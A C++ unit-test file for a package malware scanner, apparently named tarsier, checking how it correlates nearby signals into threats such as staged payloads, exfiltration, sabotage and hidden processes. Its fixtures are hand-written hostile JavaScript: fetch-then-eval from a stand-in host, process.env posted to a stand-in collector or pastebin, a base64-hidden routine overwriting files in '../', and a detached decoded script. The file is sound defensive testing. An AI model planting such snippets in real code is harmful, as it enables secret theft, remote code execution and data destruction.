// Threat correlation on the shapes of popular bundles that used to reach high risk (a wasm
// module embedded as base64 next to an unrelated eval, a fetch and a Function('return this')
// in different modules, an installer unpacking a download, a CLI walking and writing files
// while decoding runtime data), next to the close-together shapes that must still be caught.
// Snippets are hand-written; the near:N scope and decode-const are documented in rules/.
#include <catch2/catch.hpp>

#include <algorithm>

#include "analyzer/engine/analyzer.h"
#include "analyzer/engine/threats.h"
#include "tests/support/engine_samples.h"

using namespace tarsier;
using test::has;

namespace {

PackageAnalysis run(std::vector<ArchiveEntry> files) {
  files.insert(files.begin(), {"package.json", R"({"name":"shape","version":"1.0.0"})"});
  return test::shared_analyzer().analyze(test::sample_ref("shape"), files, {});
}

bool has_rule(const PackageAnalysis& a, const std::string& rule) {
  return std::any_of(a.findings.begin(), a.findings.end(),
                     [&](const Finding& f) { return f.rule == rule; });
}

// Deterministic high-entropy base64 text of `n` characters after `prefix`.
std::string base64_noise(std::string prefix, size_t n) {
  static const char* k_alphabet =
      "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  uint32_t x = 12345;
  while (prefix.size() < n) {
    x = x * 1103515245u + 12345u;
    prefix += k_alphabet[(x >> 16) % 64];
  }
  return prefix;
}

// Ordinary code that puts `bytes` of distance between two statements.
std::string filler(size_t bytes) {
  std::string out;
  for (int i = 0; out.size() < bytes; ++i) {
    out += "function helper" + std::to_string(i) + "(list) { return list.map((v) => v * " +
           std::to_string(i) + ").filter(Boolean); }\n";
  }
  return out;
}

}  // namespace

TEST_CASE("an embedded wasm module beside an unrelated eval is native code, not a payload",
          "[engine][threats]") {
  std::string wasm = base64_noise("AGFzbQEAAAAB", 4000);
  auto a =
      run({{"dist/lexer.js",
            "function parse(s) { try { return (0, eval)(s); } catch (e) {} }\n"
            "const C = () => Buffer.from('" +
                wasm +
                "', 'base64');\n"
                "export const init = WebAssembly.compile(C()).then(WebAssembly.instantiate);\n"}});
  CHECK(has_rule(a, "encoded-wasm"));
  CHECK_FALSE(has_rule(a, "encoded-blob"));
  CHECK_FALSE(has(a.threats, "staged-payload"));
  CHECK(a.risk < Risk::high);
}

TEST_CASE("a decoded blob is a staged payload only when run close by", "[engine][threats]") {
  std::string blob = base64_noise("ZXZhbC", 2000);
  SECTION("eval far away in another module of the bundle") {
    auto a =
        run({{"dist/bundle.js", "const tree = decodeTable(atob('" + blob + "'));\n" + filler(6000) +
                                    "function compile(t) { return new Function(`return "
                                    "${t}`); }\n"}});
    CHECK(has_rule(a, "encoded-blob"));
    CHECK_FALSE(has(a.threats, "staged-payload"));
    CHECK(a.risk < Risk::high);
  }
  SECTION("eval right after the blob") {
    auto a =
        run({{"lib/index.js", "const p = '" + blob + "';\n" + filler(300) +
                                  "eval(Buffer.from(p, 'base64').toString());\n" + filler(6000)}});
    CHECK(has(a.threats, "staged-payload"));
    CHECK(a.risk >= Risk::high);
  }
}

TEST_CASE("a fetch and an eval in unrelated modules are no download-and-run", "[engine][threats]") {
  SECTION("XHR transport and a globalThis polyfill far apart") {
    auto a = run({{"client-dist/client.js",
                   "var globalThisShim = (function () { return Function('return this')(); })();\n" +
                       filler(5000) +
                       "function poll(uri) { var xhr = new XMLHttpRequest(); xhr.open('GET', "
                       "uri); xhr.send(); }\n"}});
    CHECK_FALSE(has(a.threats, "staged-payload"));
    CHECK(a.risk < Risk::high);
  }
  SECTION("fetch then eval of the body") {
    auto a =
        run({{"lib/update.js", filler(4000) +
                                   "fetch('https://updates.example.invalid/next.js').then((r) => "
                                   "r.text()).then((t) "
                                   "=> eval(t));\n" +
                                   filler(4000)}});
    CHECK(has(a.threats, "staged-payload"));
    CHECK(a.risk >= Risk::high);
  }
}

TEST_CASE("walking and writing files while decoding runtime data is no sabotage",
          "[engine][threats]") {
  SECTION("an install script that downloads, unzips and writes a platform binary") {
    std::vector<ArchiveEntry> files = {
        {"package.json",
         R"({"name":"tool","version":"1.0.0","scripts":{"postinstall":"node install.js"}})"},
        {"install.js",
         "const fs = require('fs');\nconst zlib = require('zlib');\n"
         "const https = require('https');\n"
         "function get(url) { return new Promise((ok) => https.get(url, (res) => { const c = []; "
         "res.on('data', (d) => c.push(d)); res.on('end', () => ok(Buffer.concat(c))); })); }\n"
         "function untar(buffer) { buffer = zlib.unzipSync(buffer); return "
         "String.fromCharCode(...buffer.subarray(0, 100)); }\n"
         "function clean(dir) { for (const f of fs.readdirSync(dir)) fs.unlinkSync(dir + '/' + "
         "f); }\n"
         "get(process.env.TOOL_URL).then((b) => { clean('bin'); fs.writeFileSync('bin/tool', "
         "untar(b)); });\n"}};
    auto a = test::shared_analyzer().analyze(test::sample_ref("tool"), files, {});
    CHECK_FALSE(has(a.threats, "sabotage"));
    CHECK(a.risk < Risk::high);
  }
  SECTION("a CLI bundle that formats files and decodes input") {
    auto a = run({{"internal/cli.mjs",
                   "import fs from 'fs';\n"
                   "function decode(input) { return atob(input); }\n"
                   "function fromCode(c) { return String.fromCharCode(c); }\n"
                   "function list(dir) { return fs.readdirSync(dir); }\n"
                   "function save(file, text) { fs.writeFileSync(file, text); }\n"}});
    CHECK_FALSE(has(a.threats, "sabotage"));
    CHECK(a.risk < Risk::high);
  }
  SECTION("paths hidden in encoded constants, walked and overwritten") {
    auto a = run({{"lib/geo.js",
                   "const fs = require('fs');\n" + filler(5000) +
                       "function wipe(dir) {\n"
                       "  const heart = Buffer.from('4p2k77iP', 'base64').toString();\n"
                       "  for (const f of fs.readdirSync(dir)) fs.writeFileSync(dir + '/' + f, "
                       "heart);\n}\n"
                       "wipe(Buffer.from('Li4v', 'base64').toString());\n"}});
    CHECK(has(a.threats, "sabotage"));
    CHECK(a.risk >= Risk::high);
  }
}

TEST_CASE("near:N and before:N threat scopes are parsed and checked", "[engine][threats]") {
  Diagnostic error;
  auto defs = parse_threats("rules/threats.txt", "t high near:512 eval a & b | m\n", &error);
  REQUIRE(defs);
  REQUIRE(defs->size() == 1);
  CHECK((*defs)[0].window == 512);
  CHECK_FALSE((*defs)[0].package_scope);
  for (std::string bad : {"near:0", "near:", "near:x1", "near:99999999"}) {
    auto none = parse_threats("rules/threats.txt", "t high " + bad + " eval a & b | m\n", &error);
    CHECK_FALSE(none);
    CHECK(error.line == 1);
    CHECK(error.column == 8);
    CHECK(error.message.find("near:N") != std::string::npos);
  }
  auto before = parse_threats("rules/threats.txt", "t high before:256 eval a & b | m\n", &error);
  REQUIRE(before);
  CHECK((*before)[0].window == 256);
  CHECK((*before)[0].before);
  CHECK_FALSE((*defs)[0].before);
  CHECK_FALSE(parse_threats("rules/threats.txt", "t high before:0 eval a & b | m\n", &error));
  CHECK(error.message.find("before:N") != std::string::npos);
}

TEST_CASE("near:N needs the positional evidence inside one window", "[engine][threats]") {
  std::vector<ThreatDef> defs;
  Diagnostic error;
  auto parsed = parse_threats("rules/threats.txt", "t high near:100 eval a & b & !c | m\n", &error);
  REQUIRE(parsed);
  defs = *parsed;
  auto sig = [](std::string tag, size_t begin, bool whole = false) {
    Signal s;
    s.finding.rule = "r-" + tag;
    s.finding.file = "f.js";
    s.tags = {std::move(tag)};
    s.begin = begin;
    s.end = begin + 10;
    s.whole_file = whole;
    return s;
  };
  CHECK(correlate(defs, {sig("a", 0), sig("b", 500)}, {}).threats.empty());
  CHECK(correlate(defs, {sig("a", 0), sig("b", 500), sig("a", 450)}, {}).threats ==
        std::vector<std::string>{"t"});
  CHECK(correlate(defs, {sig("a", 0), sig("b", 5000, true)}, {}).threats ==
        std::vector<std::string>{"t"});
  // A negated tag is looked up in the whole file, not only in the window.
  CHECK(correlate(defs, {sig("a", 0), sig("b", 20), sig("c", 9000)}, {}).threats.empty());
}

TEST_CASE("an environment listing far from a socket is no exfiltration of the environment",
          "[engine][threats]") {
  SECTION("option names read from the environment, a file-descriptor socket much later") {
    auto a = run({{"src/node.js",
                   "var util = require('util');\n"
                   "exports.inspectOpts = Object.keys(process.env).filter(function (key) {\n"
                   "  return /^debug_/i.test(key);\n"
                   "}).reduce(function (obj, key) { obj[key] = process.env[key]; return obj; }, "
                   "{});\n" +
                       filler(3500) +
                       "function createWritableStdioStream(fd) {\n"
                       "  var net = require('net');\n"
                       "  return new net.Socket({ fd: fd, readable: false, writable: true });\n"
                       "}\n"}});
    CHECK(has_rule(a, "js-env-dump"));
    CHECK(has_rule(a, "js-network-module"));
    CHECK(a.risk < Risk::high);
  }
  SECTION("the serialised environment posted right away") {
    auto a = run(
        {{"lib/report.js",
          filler(3000) +
              "const https = require('https');\n"
              "const body = JSON.stringify(process.env);\n"
              "https.request({ host: 'collect.example.invalid', method: 'POST' }).end(body);\n" +
              filler(3000)}});
    CHECK(has(a.threats, "exfiltration"));
    CHECK(a.risk >= Risk::high);
  }
  SECTION("to a suspicious host anywhere in the file") {
    auto a = run({{"lib/report.js", "const data = JSON.stringify(process.env);\n" + filler(6000) +
                                        "const https = require('https');\n"
                                        "https.get('https://pastebin.com/raw/x?d=' + data);\n"}});
    CHECK(has(a.threats, "exfiltration"));
    CHECK(a.risk >= Risk::high);
  }
}

TEST_CASE("a detached process is hidden-process high only next to the decoding that feeds it",
          "[engine][threats]") {
  const std::string decode = "const script = Buffer.from(process.argv[2], 'base64').toString();\n";
  const std::string spawn =
      "const { spawn } = require('child_process');\n"
      "spawn(process.execPath, ['-e', script], { detached: true, stdio: 'ignore' }).unref();\n";
  SECTION("decoding and a detached start in one place") {
    auto a = run({{"lib/agent.js", filler(3000) + decode + spawn + filler(3000)}});
    CHECK(has(a.threats, "hidden-process"));
    CHECK(a.risk >= Risk::high);
  }
  SECTION("a helper started first, run-time data decoded after it") {
    const std::string later =
        "const image = Buffer.from(frame.data, 'base64');\nreply.attach('shot.png', image);\n";
    auto a = run({{"lib/tool.js", filler(3000) + spawn + later + filler(3000)}});
    CHECK(has(a.threats, "hidden-process"));  // still reported, at medium
    CHECK(a.risk < Risk::high);
  }
  SECTION("a bundle that decodes in one module and detaches a helper in another") {
    auto a = run({{"lib/bundle.js", decode + filler(20000) + spawn}});
    CHECK(has(a.threats, "hidden-process"));  // still reported, at medium
    CHECK(a.risk < Risk::high);
  }
}

TEST_CASE("a suspicious host joins other evidence only nearby in a bundle", "[engine][threats]") {
  const std::string host = "const docs = 'https://welcome.tools.workers.dev/start';\n";
  const std::string run_decoded =
      "function unpack(text) { return atob(text); }\n"
      "function load(code) { return eval(code); }\n";
  SECTION("a bundle: the host in one module, decode and eval in another far below") {
    auto a = run({{"dist/cli.js", host + filler(300 * 1024) + run_decoded + filler(2000)}});
    CHECK(has_rule(a, "url-tunnel"));
    CHECK_FALSE(has(a.threats, "staged-payload"));
    CHECK(a.risk < Risk::high);
  }
  SECTION("a bundle: the host right beside decode and eval") {
    auto a = run({{"dist/cli.js", filler(300 * 1024) + host + run_decoded + filler(2000)}});
    CHECK(has(a.threats, "staged-payload"));
    CHECK(a.risk >= Risk::high);
  }
  SECTION("a small file: a host constant at the top counts anywhere below") {
    auto a = run({{"lib/index.js", host + filler(8000) + run_decoded}});
    CHECK(has(a.threats, "staged-payload"));
    CHECK(a.risk >= Risk::high);
  }
}
